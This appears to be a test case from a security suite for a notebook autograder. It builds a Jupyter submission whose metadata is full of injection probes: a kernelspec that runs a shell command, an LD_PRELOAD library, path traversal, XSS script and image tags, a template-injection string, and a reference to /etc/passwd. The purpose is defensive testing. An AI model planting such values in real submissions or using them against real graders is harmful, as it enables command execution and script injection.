# id: h22_other_kernels / gain: another kernel is started, or the grader stops / detect: grader crash/hang, or another submission graded in the same batch changes its result
# desc: the metadata name other kernels, languages, programs and templates
# category: notebook | kind: folder | base: none
# expect: full points; neighbours unaffected
"""kind: folder. build(dst, nb, name): dst = empty submission folder (pathlib.Path), nb = dict of a correct submission, name = expected notebook file name."""
import copy, json
def build(dst, nb, name):
    nb = copy.deepcopy(nb)
    nb["metadata"] = {"kernelspec": {"name": "../../../tmp/pwned", "display_name": "<script>1</script>", "language": "R", "argv": ["/bin/sh", "-c", "touch /tmp/PWNED_h22"], "env": {"LD_PRELOAD": "/tmp/x.so"}}, "language_info": {"name": "bash", "file_extension": "/../../x", "pygments_lexer": "../../x", "nbconvert_exporter": "os.system", "codemirror_mode": {"name": "<img src=x onerror=alert(1)>"}}, "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"a": {"model_module": "http://127.0.0.1:45671/m"}}}}, "jupytext": {"text_representation": {"extension": ".sh"}}, "title": "</title><script>1</script>", "authors": [{"name": "{{7*7}}"}], "nbgrader": {"late": "no"}, "celltoolbar": "Create Assignment", "latex_envs": {"bibliofile": "/etc/passwd"}, "toc": {"base_numbering": "x"}}
    for cell in nb["cells"]: cell["metadata"].update({"language": "bash", "magic_args": "--out x", "jupyter": {"outputs_hidden": True}, "kernel": "SoS", "execution": {"timeout": -1, "iopub.status.busy": "9999"}, "papermill": {"status": "x"}, "tags": ["hide-input", "remove_cell", "raises-exception", "</p>"], "slideshow": {"slide_type": "skip"}})
    (dst / name).write_text(json.dumps(nb))
